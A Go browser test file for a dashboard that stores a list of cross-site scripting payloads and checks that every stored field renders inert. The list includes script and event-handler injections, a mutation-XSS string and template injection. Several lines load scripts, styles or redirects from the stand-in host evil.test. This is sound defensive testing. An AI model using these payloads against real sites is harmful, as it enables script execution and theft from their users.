package browser

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/weirhq/weir/framework/dashboard/dashboardtest"
	"github.com/weirhq/weir/framework/intake"
	"github.com/weirhq/weir/framework/store"
	"github.com/weirhq/weir/ingest"
)

// hostile are texts that set window.pwned, open a dialog, load something from
// elsewhere or hide the page where they become markup.
var hostile = []string{
	`<script>window.pwned=1</script>`, `<img src=x onerror="window.pwned=1">`, `"><svg onload=window.pwned=1>`, `' autofocus onfocus=window.pwned=1 x='`,
	`</code></pre></details></li></ol><script>window.pwned=1</script>`, `</title><script>window.pwned=1</script>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<script src="//evil.test/x.js"></script>`, `<link rel=stylesheet href=//evil.test/x.css>`, `<base href=//evil.test/>`, `<meta http-equiv=refresh content="0;url=//evil.test/">`,
	`<style>main{display:none}</style>`, `<form action=//evil.test><button autofocus>`, `<details open ontoggle=window.pwned=1>`, `<a href="javascript:window.pwned=1" id=content>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`, `{{constructor.constructor("window.pwned=1")()}}`, `<!--`, "\u202etxt.exe",
}

func TestNothingStoredComesAlive(t *testing.T) {
	t.Parallel()
	office := dashboardtest.Busy(noon)
	for i, text := range hostile {
		payload := `{"at":` + fmt.Sprint(i) + `,"text":` + plainJSON(text) + `}`
		office.Record(dashboardtest.Demo, "customers", ingest.Event{Type: text, Subject: text, Key: fmt.Sprint(i) + text, Operation: ingest.Upsert, Payload: json.RawMessage(payload)})
	}
	all := strings.Join(hostile, "\n")
	office.Status(dashboardtest.Demo, "customers", func(s *store.StreamStatus) { s.ConsecutiveFailures, s.LastError = 1, all })
	office.AddRun(store.Run{ID: "run_hostile", ConnectionID: dashboardtest.Demo, Stream: "customers", Trigger: all, State: store.RunFailed, StartedAt: noon, FinishedAt: noon, Error: all, ErrorClass: all, Stack: all})
	var checkpoint store.Checkpoint
	checkpoint.Cursor, checkpoint.RunID = []byte(all), all
	office.SetCheckpoint(dashboardtest.Demo, "customers", checkpoint)
	office.SetReport(dashboardtest.Stripe, "stripe", intake.Report{Recent: []intake.Recent{
		{ID: "dlv_" + all, At: noon, Verdict: intake.Stored, Why: all}, {First: all, At: noon, Verdict: intake.Duplicate},
	}})
	office.Keep(store.DeliverySummary{ID: "dlv_x", ConnectionID: dashboardtest.Stripe, Endpoint: all, Key: all, State: store.DeliveryDead, ReceivedAt: noon, LastError: all})
	office.Write(`{`+plainJSON(all)+`:[`+plainJSON(all)+`]}`, all)

	s, x := serve(t, office, dashboardtest.Loopback()), newTab(t)
	inert := func() {
		t.Helper()
		require.False(t, eval[bool](x, `"pwned" in window`))
		require.True(t, eval[bool](x, `document.querySelector("main").getBoundingClientRect().height > 200`), "the page is still there")
		require.Equal(t, 0, eval[int](x, `document.querySelectorAll("main script, main style, main img, main iframe, main link, main base, main meta, main [onerror], main [onload], main [onfocus], main [ontoggle], a[href^=javascript]").length`))
	}
	for _, path := range []string{"/", "/streams/default/demo/customers"} {
		x.open(s.url + path)
		inert()
		x.do(`document.querySelectorAll("details").forEach((d) => { d.open = true })`)
		inert()
		// What the script of the page puts in is as inert as what came first.
		x.until(`document.getElementById("feed").textContent === "live"`, patience)
		office.Record(dashboardtest.Demo, "customers", ingest.Event{Type: "later", Subject: hostile[0] + path, Key: path, Operation: ingest.Upsert, Payload: json.RawMessage(plainJSON(hostile[1]))})
		total := x.text(customersRow + " .c-total")
		s.front.Feed.Notify()
		if path != "/" {
			x.until(`document.querySelector(".events li .subject").textContent === `+quote(hostile[0]+path), patience)
		} else {
			x.until(`document.querySelector("`+customersRow+` .c-total").innerText !== `+quote(total), patience)
		}
		inert()
	}
	for _, path := range []string{"/streams/default/stripe-eu/events", "/deliveries/default/stripe-eu/dlv_x"} {
		x.open(s.url + path)
		x.do(`document.querySelectorAll("details").forEach((d) => { d.open = true })`)
		inert()
		x.until(`document.getElementById("feed").textContent === "live"`, patience)
		s.front.Feed.Notify()
		inert()
	}
	x.quiet()
	_, requests := x.heard()
	for _, r := range requests {
		require.True(t, strings.HasPrefix(r, s.url+"/"), r)
	}

	// The API's answers are no pages either, also when somebody opens them in a tab.
	x.open(s.url + "/api/v1/connections/demo/streams/customers/events?after=12400")
	require.False(t, eval[bool](x, `"pwned" in window`))
	require.Equal(t, 0, eval[int](x, `document.querySelectorAll("script, img, iframe, svg").length`))
}

// The corpus would be seen if it came alive: on a page that does not escape it.
func TestTheHostileCorpusIsAlive(t *testing.T) {
	t.Parallel()
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprint(w, "<main>", r.URL.Query().Get("text"), "</main>")
	}))
	t.Cleanup(careless.Close)
	x := newTab(t)
	for _, text := range hostile[:3] {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, careless.URL, nil)
		require.NoError(t, err)
		q := r.URL.Query()
		q.Set("text", text)
		r.URL.RawQuery = q.Encode()
		x.open(r.URL.String())
		x.until(`window.pwned === 1`, patience)
	}
}

// plainJSON encodes a text without the escapes that make markup harmless.
func plainJSON(text string) string {
	return strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(quote(text))
}
